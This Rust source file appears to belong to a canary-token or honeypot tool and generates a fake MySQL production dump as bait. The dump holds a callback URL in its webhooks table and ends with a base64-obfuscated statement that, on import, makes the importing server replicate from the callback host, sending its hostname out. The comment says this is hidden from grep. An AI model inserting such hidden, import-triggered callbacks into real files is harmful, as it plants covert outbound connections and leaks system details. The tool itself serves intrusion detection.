//! A `mysqldump` backup of an application database. Its `webhooks` table has a row whose URL is the
//! callback, for whoever reads the dump or restores the app; and, as in DECNET (after the
//! Canarytokens trick), it ends with a base64-wrapped statement that, once the dump is imported,
//! makes the importing server a replica of the callback's DNS name: the server looks the name up
//! (and connects on 3306, naming its own host in the replica user). The wrapping keeps the name out
//! of a `grep` of the file.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::Input;
use super::people;
use crate::canary::bait::Bait;
use crate::canary::bait::draw::{ALNUM, Draw};

const APPS: &[&str] = &["billing", "portal", "orders", "crm", "inventory"];
const YEAR: u32 = 2025;

/// `{app}_production_{date}.sql`, the dump's own date.
pub(super) fn file_name(draw: &Draw<'_>) -> String {
    let (year, month, day) = draw.date("dump-date", YEAR);
    format!("{}_production_{year}-{month:02}-{day:02}.sql", draw.pick("app", APPS))
}

pub(super) fn make(input: &Input<'_>) -> Bait {
    let draw = &input.draw;
    let org = people::org(draw);
    let app = draw.pick("app", APPS);
    let (year, month, day) = draw.date("dump-date", YEAR);
    let database = format!("{app}_production");
    let host = format!("db-prod-0{}.{}.internal", draw.number("db", 1, 4), org.short);

    let mut users = Vec::new();
    for row in 1..=draw.number("users", 5, 9) {
        let person = people::person(draw, &format!("user{row}"));
        let (y, m, d) = draw.date(&format!("user{row}/created"), YEAR - 1 + (row as u32 % 2));
        users.push(format!(
            "({row},'{}','$2y$10${}','{}',{},'{y}-{m:02}-{d:02} {:02}:{:02}:{:02}')",
            person.email(org.domain),
            draw.text(
                &format!("user{row}/hash"),
                b"./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
                53
            ),
            person.full_name(),
            u8::from(row == 1),
            draw.number(&format!("user{row}/h"), 7, 19),
            draw.number(&format!("user{row}/min"), 0, 59),
            draw.number(&format!("user{row}/s"), 0, 59),
        ));
    }
    let webhooks = [
        format!("(1,'order.created','https://erp.{}/api/hooks/orders','{}',1)", org.domain, draw.hex("secret1", 40)),
        format!("(2,'invoice.paid','{}','{}',1)", input.callback.url(), draw.hex("secret2", 40)),
    ];

    let replica_statement = format!(
        "SET @q = CONCAT(\"CHANGE REPLICATION SOURCE TO SOURCE_HOST='{}', SOURCE_PORT=3306, \
         SOURCE_USER='repl_\", @@hostname, \"', SOURCE_PASSWORD='{}', SOURCE_SSL=0, SOURCE_RETRY_COUNT=1\");",
        input.dns_name(),
        draw.text("replica-password", ALNUM, 16),
    );
    let content = format!(
        "-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)\n\
         --\n\
         -- Host: {host}    Database: {database}\n\
         -- ------------------------------------------------------\n\
         -- Server version\t8.0.36\n\
         \n\
         /*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;\n\
         /*!40101 SET @OLD_CHARACTER_SET_RESULTS=@@CHARACTER_SET_RESULTS */;\n\
         /*!40101 SET @OLD_COLLATION_CONNECTION=@@COLLATION_CONNECTION */;\n\
         /*!50503 SET NAMES utf8mb4 */;\n\
         /*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;\n\
         /*!40103 SET TIME_ZONE='+00:00' */;\n\
         /*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;\n\
         /*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;\n\
         /*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;\n\
         /*!40111 SET @OLD_SQL_NOTES=@@SQL_NOTES, SQL_NOTES=0 */;\n\
         \n\
         {users_table}\
         {webhooks_table}\
         SET @b = '{wrapped}';\n\
         SET @s = FROM_BASE64(@b);\n\
         PREPARE stmt1 FROM @s;\n\
         EXECUTE stmt1;\n\
         PREPARE stmt2 FROM @q;\n\
         EXECUTE stmt2;\n\
         START REPLICA;\n\
         \n\
         /*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;\n\
         /*!40101 SET SQL_MODE=@OLD_SQL_MODE */;\n\
         /*!40014 SET FOREIGN_KEY_CHECKS=@OLD_FOREIGN_KEY_CHECKS */;\n\
         /*!40014 SET UNIQUE_CHECKS=@OLD_UNIQUE_CHECKS */;\n\
         /*!40101 SET CHARACTER_SET_CLIENT=@OLD_CHARACTER_SET_CLIENT */;\n\
         /*!40101 SET CHARACTER_SET_RESULTS=@OLD_CHARACTER_SET_RESULTS */;\n\
         /*!40101 SET COLLATION_CONNECTION=@OLD_COLLATION_CONNECTION */;\n\
         /*!40111 SET SQL_NOTES=@OLD_SQL_NOTES */;\n\
         \n\
         -- Dump completed on {year}-{month:02}-{day:02} 0{hour}:{minute:02}:{second:02}\n",
        users_table = table(
            "users",
            "  `id` int unsigned NOT NULL AUTO_INCREMENT,\n  `email` varchar(255) NOT NULL,\n  \
             `password_hash` char(60) NOT NULL,\n  `display_name` varchar(120) NOT NULL,\n  \
             `is_admin` tinyint(1) NOT NULL DEFAULT '0',\n  `created_at` datetime NOT NULL,\n  \
             PRIMARY KEY (`id`),\n  UNIQUE KEY `uniq_email` (`email`)\n",
            &users,
        ),
        webhooks_table = table(
            "webhooks",
            "  `id` int unsigned NOT NULL AUTO_INCREMENT,\n  `event` varchar(64) NOT NULL,\n  \
             `url` varchar(512) NOT NULL,\n  `signing_secret` char(40) NOT NULL,\n  \
             `enabled` tinyint(1) NOT NULL DEFAULT '1',\n  PRIMARY KEY (`id`)\n",
            &webhooks,
        ),
        wrapped = STANDARD.encode(replica_statement),
        hour = draw.number("hour", 1, 5),
        minute = draw.number("minute", 0, 59),
        second = draw.number("second", 0, 59),
    );
    Bait { file: input.file(input.path.clone(), 0o640, content.into_bytes(), "application/sql", 7), companions: vec![] }
}

/// One table as mysqldump writes it: structure, then its rows under a write lock.
fn table(name: &str, columns: &str, rows: &[String]) -> String {
    format!(
        "--\n-- Table structure for table `{name}`\n--\n\n\
         DROP TABLE IF EXISTS `{name}`;\n\
         /*!40101 SET @saved_cs_client     = @@character_set_client */;\n\
         /*!50503 SET character_set_client = utf8mb4 */;\n\
         CREATE TABLE `{name}` (\n{columns}) ENGINE=InnoDB AUTO_INCREMENT={next} DEFAULT CHARSET=utf8mb4 \
         COLLATE=utf8mb4_0900_ai_ci;\n\
         /*!40101 SET character_set_client = @saved_cs_client */;\n\n\
         --\n-- Dumping data for table `{name}`\n--\n\n\
         LOCK TABLES `{name}` WRITE;\n\
         /*!40000 ALTER TABLE `{name}` DISABLE KEYS */;\n\
         INSERT INTO `{name}` VALUES {values};\n\
         /*!40000 ALTER TABLE `{name}` ENABLE KEYS */;\n\
         UNLOCK TABLES;\n\n",
        next = rows.len() + 1,
        values = rows.join(","),
    )
}
